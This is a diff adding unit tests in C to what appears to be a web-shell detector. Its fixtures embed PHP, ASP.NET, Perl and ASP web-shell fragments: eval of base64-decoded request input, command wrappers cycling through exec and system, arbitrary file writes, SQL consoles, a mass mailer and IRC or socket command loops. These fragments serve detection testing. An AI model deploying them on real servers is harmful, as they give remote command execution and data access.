@@ -188,6 +188,141 @@ static void test_asp_jsp_perl(void **state)
         assert_int_equal(m.taint_exec, 3);
 }
 
+static void test_php_functions(void **state)
+{
+        (void)state;
+        /* a command wrapper trying each sink in turn, called with the request before and after
+         * its body; a code sink reached through a local and a decoder; one function reaching
+         * another defined before it */
+        struct webshape m =
+                shape("<?php\n"
+                      "run2($_GET['x']);\n"
+                      "function ex($cfe) {\n"
+                      "  if (function_exists('exec')) { @exec($cfe, $res); }\n"
+                      "  elseif (function_exists('shell_exec')) { $res = @shell_exec($cfe); }\n"
+                      "  elseif (function_exists('system')) { @system($cfe); }\n"
+                      "  elseif (is_resource($f = @popen($cfe, 'r'))) { $res = fread($f, 1024); }\n"
+                      "  return $res;\n"
+                      "}\n"
+                      "function run2($z) { $q = base64_decode($z); eval($q); }\n"
+                      "function outer($a, $b) { return ex(\"$b 2>&1\"); }\n"
+                      "echo outer(1, $_POST['cmd']);\n");
+        assert_int_equal(m.fn_exec_kinds, 4);
+        assert_int_equal(m.fn_exec, 1); /* outer, through ex */
+        assert_int_equal(m.fn_eval, 1);
+        assert_int_equal(m.taint_exec, 0);
+
+        /* a sanitized parameter, a local given something else, a function never given the
+         * request, and a parameter's name outside its function are no flow */
+        m = shape("<?php\n"
+                  "function safe($a) { $b = escapeshellarg($a); system('ls ' . $b); }\n"
+                  "function reset_it($a) { $a = 'uptime'; system($a); }\n"
+                  "function log_it($line) { fwrite($GLOBALS['log'], $line); }\n"
+                  "safe($_GET['d']); reset_it($_GET['e']); log_it(date('r'));\n"
+                  "system($line);\n");
+        assert_int_equal(m.fn_exec, 0);
+        assert_int_equal(m.fn_write, 0);
+        assert_int_equal(m.fn_exec_kinds, 0);
+        assert_int_equal(m.taint_exec, 0);
+
+        /* a body's locals hold its parameters until it ends, however many it marked */
+        char body[4096] = "<?php function many($p) {";
+        for (int k = 0; k < 40; k++)
+                snprintf(body + strlen(body), sizeof(body) - strlen(body), " $v%d = $p;", k);
+        strcat(body, " }\nfunction other($q) { system($v3); system($v39); }\n"
+                     "other($_GET['x']);\n");
+        m = shape(body);
+        assert_int_equal(m.fn_exec, 0);
+        assert_int_equal(m.fn_exec_kinds, 0);
+
+        /* a writer given the request; a method called through -> */
+        m = shape("<?php class S { function send($d) { fputs($this->sock, $d . \"\\r\\n\"); } }\n"
+                  "$s = new S(); $s->send('MAIL FROM: ' . $_POST['from']);\n");
+        assert_int_equal(m.fn_write, 1);
+}
+
+static void test_consoles(void **state)
+{
+        (void)state;
+        /* target and data both the request's: directly, and through a handle opened on its path */
+        struct webshape m = shape("<?php file_put_contents($_GET['p'], $_POST['d']);\n"
+                                  "$h = fopen($_POST['f'], 'w'); fwrite($h, $_POST['t']);\n"
+                                  "file_put_contents('/tmp/log', $_POST['d']);\n"
+                                  "fwrite(fopen($_GET['q'], 'a'), date('r'));\n");
+        assert_int_equal(m.write_both, 2);
+        assert_int_equal(m.taint_write, 5);
+
+        /* a connection with the request's credentials and a query of its text; mysqli_query's
+         * first argument is the connection, not the query */
+        m = shape("<?php $c = mysqli_connect($_POST['h'], $_POST['u'], $_POST['p']);\n"
+                  "mysqli_query($c, 'set names utf8');\n"
+                  "$r = mysqli_query($c, $_POST['sql']);\n");
+        assert_int_equal(m.taint_connect, 1);
+        assert_int_equal(m.taint_query, 1);
+        m = shape("<?php $c = mysqli_connect('localhost', 'app', $pw);\n"
+                  "mysqli_query($c, 'select 1'); mysql_query(\"select * from t where id=\" . "
+                  "intval($_GET['id']));\n");
+        assert_int_equal(m.taint_connect, 0);
+        assert_int_equal(m.taint_query, 0);
+
+        /* ASP.NET: the connection string from a text box or the query string */
+        m = shape("<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\n"
+                  "void Go(object s, EventArgs e) {\n"
+                  "  SqlConnection c = new SqlConnection();\n"
+                  "  c.ConnectionString = txtConnection.Text;\n"
+                  "  var d = new OleDbConnection(Request.QueryString[\"cs\"]);\n"
+                  "  var k = new SqlConnection(ConfigurationManager.AppSettings[\"db\"]);\n"
+                  "}\n</script>\n");
+        assert_int_equal(m.taint_connect, 2);
+
+        /* a mass mailer sends to the list the request gives; a contact form to itself */
+        m = shape("<?php $to = explode(\"\\n\", $_POST['emails']);\n"
+                  "foreach ($to as $e) { mail($e, $_POST['subject'], $_POST['body']); }\n"
+                  "mail('admin@example.org', $_POST['subject'], $_POST['message']);\n");
+        assert_int_equal(m.taint_mail, 1);
+
+        /* an HtmlInputText's .Value is the client's in an ASP.NET page; a recordset field's
+         * .Value in classic ASP is not */
+        m = shape("<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\n"
+                  "void Pack(object s, EventArgs e) {\n"
+                  "  Process.Start(txtRarPath.Value, \" a -y \" + txtOutPath.Value);\n"
+                  "  lbStatus.Value = \"done\";\n}\n</script>\n");
+        assert_int_equal(m.taint_exec, 1);
+        m = shape("<%\nSet sh = Server.CreateObject(\"WScript.Shell\")\n"
+                  "sh.Run rs(\"cmd\").Value, 0\n%>\n");
+        assert_int_equal(m.taint_exec, 0);
+        assert_int_equal(m.sources, 0);
+}
+
+static void test_sockets(void **state)
+{
+        (void)state;
+        /* Perl: what IO::Socket's handle and socket()'s bareword handle sent, to commands; a
+         * file's lines are not remote input */
+        struct webshape m = shape("#!/usr/bin/perl\nuse IO::Socket;\n"
+                                  "my $sock = IO::Socket::INET->new(PeerAddr => 'h:6667');\n"
+                                  "while (my $line = <$sock>) { system($line); }\n"
+                                  "socket(SOCK, PF_INET, SOCK_STREAM, 6);\n"
+                                  "while (<SOCK>) { system($_); }\n"
+                                  "open(F, '</etc/hosts'); while (<F>) { system($_); }\n"
+                                  "for ($i = 0; $i <$n; $i++) { print $i; }\n");
+        assert_int_equal(m.socket_reads, 2);
+        assert_int_equal(m.taint_exec, 2);
+        assert_int_equal(m.sources, 0);
+
+        /* PHP: an IRC bot's socket read, handed through a method of its own to a command */
+        m = shape("<?php class bot {\n"
+                  "function start() { $this->conn = fsockopen($this->server, 6667); }\n"
+                  "function main() { $this->buf = trim(fgets($this->conn, 512));\n"
+                  "  $cmd = explode(' ', $this->buf);\n"
+                  "  if ($cmd[3] == ':!sh') { $this->run(substr($this->buf, 10)); } }\n"
+                  "function run($c) { shell_exec($c); } }\n"
+                  "$f = fopen('x', 'r'); $l = fgets($f); system($l);\n");
+        assert_int_equal(m.socket_reads, 1);
+        assert_int_equal(m.fn_exec, 1);
+        assert_int_equal(m.taint_exec, 0);
+}
+
 static void test_merge(void **state)
 {
         (void)state;
@@ -241,10 +376,17 @@ static void test_hostile(void **state)
 int main(void)
 {
         const struct CMUnitTest tests[] = {
-                cmocka_unit_test(test_language),    cmocka_unit_test(test_php_flows),
-                cmocka_unit_test(test_php_callees), cmocka_unit_test(test_php_writes_and_includes),
-                cmocka_unit_test(test_php_regions), cmocka_unit_test(test_asp_jsp_perl),
-                cmocka_unit_test(test_merge),       cmocka_unit_test(test_hostile),
+                cmocka_unit_test(test_language),
+                cmocka_unit_test(test_php_flows),
+                cmocka_unit_test(test_php_callees),
+                cmocka_unit_test(test_php_writes_and_includes),
+                cmocka_unit_test(test_php_regions),
+                cmocka_unit_test(test_asp_jsp_perl),
+                cmocka_unit_test(test_php_functions),
+                cmocka_unit_test(test_consoles),
+                cmocka_unit_test(test_sockets),
+                cmocka_unit_test(test_merge),
+                cmocka_unit_test(test_hostile),
         };
         return cmocka_run_group_tests(tests, NULL, NULL);
 }
